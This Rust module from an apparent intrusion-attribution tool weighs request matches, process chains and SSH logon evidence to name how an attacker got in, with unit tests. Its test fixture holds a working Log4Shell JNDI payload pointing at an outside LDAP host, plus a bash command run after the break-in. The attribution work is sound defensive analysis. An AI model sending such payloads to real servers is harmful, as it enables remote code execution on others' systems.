//! text, chain, logons → one method, with reasons; or why none is named.
//!
//! A request shows that something was tried; that it is *how they got in* takes the chain, or the victim's own
//! command line. Witnesses that agree are joined as independent ones; integer permille throughout.

use std::collections::BTreeMap;

use super::{MethodClass, MethodIdx, MethodMatch, Methods, Stage};

/// Below this no method is named.
const NAMED_FROM: u16 = 500;
/// Two methods nearer than this can't be told apart.
const TIE: u16 = 40;
/// What a request alone can show, of its own confidence.
const TRIED_PERMILLE: u16 = 550;
const PROBED_PERMILLE: u16 = 200;
/// A request of a method that the entry contradicts.
const CONTRADICTED_PERMILLE: u16 = 400;
/// So many failures before a success are guessing.
const GUESSED_FROM: u32 = 5;

/// How someone logged on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LogonKind {
    Password,
    PublicKey,
}

/// What is known besides the texts and the chain.
#[derive(Debug, Clone, Default)]
pub struct Evidence {
    /// Failed logons to this host and account service shortly before the episode, from the same source.
    pub failed_logons_before: u32,
    /// The logon that the episode's session belongs to.
    pub logon: Option<LogonKind>,
    /// The best match of a request that reached the entry process shortly before.
    pub inbound_request_match: Option<MethodMatch>,
    /// The episode's own command line stands in the request (`ties_to_command`).
    pub payload_matches_command: bool,
}

/// How they got in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fused {
    pub method: MethodIdx,
    pub confidence_permille: u16,
    pub why: Vec<String>,
}

/// Why no method is named.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abstained {
    NoEvidence,
    TooWeak,
    Ambiguous,
}

impl Abstained {
    pub const fn name(self) -> &'static str {
        match self {
            Self::NoEvidence => "no_evidence",
            Self::TooWeak => "too_weak",
            Self::Ambiguous => "ambiguous",
        }
    }
}

#[derive(Default)]
struct Claim {
    permille: u16,
    why: Vec<String>,
}

impl Claim {
    /// Joins an independent witness.
    fn support(&mut self, permille: u16, why: String) {
        let doubt = u32::from(1000 - self.permille.min(1000)) * u32::from(1000 - permille.min(1000));
        self.permille = 1000 - u16::try_from(doubt.div_ceil(1000)).unwrap_or(1000);
        self.why.push(why);
    }
}

impl Methods {
    /// Weighs what the texts of requests, the process chain and the logons say of one episode.
    pub fn fuse(
        &self,
        by_text: &[MethodMatch],
        by_chain: &[MethodMatch],
        evidence: &Evidence,
    ) -> Result<Fused, Abstained> {
        let mut claims: BTreeMap<MethodIdx, Claim> = BTreeMap::new();
        for it in by_chain {
            claims.entry(it.method).or_default().support(it.confidence_permille, it.matched.join("; "));
        }
        // The inbound request is one of those that `by_text` may hold: the surer of two readings counts, once.
        let mut texts: BTreeMap<MethodIdx, (&MethodMatch, bool)> = BTreeMap::new();
        for it in by_text {
            texts.entry(it.method).or_insert((it, false));
        }
        if let Some(it) = &evidence.inbound_request_match {
            texts.insert(it.method, (it, true));
        }
        for (&method, &(it, inbound)) in &texts {
            let (permille, why) = self.of_request(it, inbound, by_chain, evidence);
            claims.entry(method).or_default().support(permille, why);
        }
        self.of_logon(by_chain, evidence, &mut claims);
        self.choose(claims)
    }

    fn of_request(
        &self,
        it: &MethodMatch,
        inbound: bool,
        by_chain: &[MethodMatch],
        evidence: &Evidence,
    ) -> (u16, String) {
        let quoted = it.matched.join("; ");
        // One request holds the command: the inbound one, where it is known.
        let tied = evidence.payload_matches_command && (inbound || evidence.inbound_request_match.is_none());
        if tied && it.stage == Stage::Attacked {
            return (it.confidence_permille.max(900), format!("the request holds the command that ran: {quoted}"));
        }
        let (share, what) = match it.stage {
            Stage::Probed => (PROBED_PERMILLE, "a probe"),
            Stage::Attacked if inbound => (TRIED_PERMILLE + 150, "a request just before"),
            Stage::Attacked => (TRIED_PERMILLE, "a request"),
        };
        let mut permille = scale(it.confidence_permille, share);
        let agreed = by_chain.iter().any(|chain| chain.method == it.method);
        if !by_chain.is_empty() && !agreed && !self.get(it.method).entry.is_empty() {
            permille = scale(permille, CONTRADICTED_PERMILLE);
        }
        (permille, format!("{what}: {quoted}"))
    }

    fn of_logon(&self, by_chain: &[MethodMatch], evidence: &Evidence, claims: &mut BTreeMap<MethodIdx, Claim>) {
        let Some(logon) = evidence.logon else { return };
        let failed = evidence.failed_logons_before;
        for it in by_chain {
            let class = self.get(it.method).class;
            let Some(claim) = claims.get_mut(&it.method) else { continue };
            match (class, logon) {
                (MethodClass::WeakPassword, LogonKind::Password) if failed >= GUESSED_FROM => {
                    let surer = u16::try_from(failed.min(100)).unwrap_or(100);
                    claim.support(750 + surer, format!("a password was accepted after {failed} failed logons"));
                }
                (MethodClass::WeakPassword, LogonKind::Password) => {
                    claim.support(250, format!("a password was accepted after {failed} failed logons"));
                }
                (MethodClass::StolenKey, LogonKind::PublicKey) => {
                    claim.support(450, "a public key was accepted".to_owned());
                }
                // The other way to log on is ruled out by this one.
                (MethodClass::WeakPassword | MethodClass::StolenKey, _) => claim.permille = 0,
                _ => {}
            }
        }
    }

    fn choose(&self, claims: BTreeMap<MethodIdx, Claim>) -> Result<Fused, Abstained> {
        let mut claims: Vec<_> = claims.into_iter().filter(|(_, claim)| claim.permille > 0).collect();
        claims.sort_by_key(|(method, claim)| (std::cmp::Reverse(claim.permille), *method));
        let second = claims.get(1).map_or(0, |(_, claim)| claim.permille);
        let Some((method, claim)) = claims.into_iter().next() else { return Err(Abstained::NoEvidence) };
        if claim.permille < NAMED_FROM {
            return Err(Abstained::TooWeak);
        }
        if claim.permille - second < TIE {
            return Err(Abstained::Ambiguous);
        }
        Ok(Fused { method, confidence_permille: claim.permille.min(990), why: claim.why })
    }
}

fn scale(permille: u16, share: u16) -> u16 {
    u16::try_from(u32::from(permille) * u32::from(share) / 1000).unwrap_or(1000)
}

#[cfg(test)]
mod tests {
    use super::super::Role;
    use super::*;

    const LOG4J: &str = "GET /?x=${jndi:ldap://192.0.2.9:1389/a} HTTP/1.1";

    fn check(
        by_text: &str,
        role: Option<Role>,
        commands: &[&str],
        evidence: &Evidence,
        expect: Result<&str, Abstained>,
    ) {
        let methods = Methods::builtin();
        let text = methods.identify(by_text);
        let chain = role.map(|role| methods.by_entry(role, commands)).unwrap_or_default();
        let fused = methods.fuse(&text, &chain, evidence);
        let got = fused.as_ref().map(|it| methods.get(it.method).id.as_str()).map_err(|it| *it);
        assert_eq!(got, expect, "{fused:?}");
    }

    #[test]
    fn a_request_alone_shows_a_try_and_the_chain_makes_it_the_way_in() {
        let none = Evidence::default();
        check(LOG4J, None, &[], &none, Err(Abstained::TooWeak));
        check(LOG4J, Some(Role::Tomcat), &["/bin/bash -c whoami"], &none, Ok("log4shell"));
        // The same request, and an episode below sshd: nothing to do with it.
        check(LOG4J, Some(Role::SshSession), &[], &none, Err(Abstained::TooWeak));
        check("", None, &[], &none, Err(Abstained::NoEvidence));
    }

    #[test]
    fn the_victims_own_command_in_the_request_settles_it() {
        let evidence = Evidence { payload_matches_command: true, ..Default::default() };
        check(LOG4J, None, &[], &evidence, Ok("log4shell"));
    }

    #[test]
    fn logons_tell_guessing_from_a_stolen_key() {
        let guessed = Evidence { failed_logons_before: 40, logon: Some(LogonKind::Password), ..Default::default() };
        check("", Some(Role::SshSession), &[], &guessed, Ok("ssh_password_guess"));
        let key = Evidence { logon: Some(LogonKind::PublicKey), ..Default::default() };
        check("", Some(Role::SshSession), &[], &key, Ok("ssh_stolen_key"));
        let first_try = Evidence { logon: Some(LogonKind::Password), ..Default::default() };
        check("", Some(Role::SshSession), &[], &first_try, Err(Abstained::TooWeak));
        check("", Some(Role::SshSession), &[], &Evidence::default(), Err(Abstained::TooWeak));
    }

    #[test]
    fn support_only_grows_and_never_reaches_certainty() {
        let mut claim = Claim::default();
        let mut before = 0;
        for _ in 0..50 {
            claim.support(300, String::new());
            assert!(claim.permille >= before && claim.permille < 1000);
            before = claim.permille;
        }
    }
}
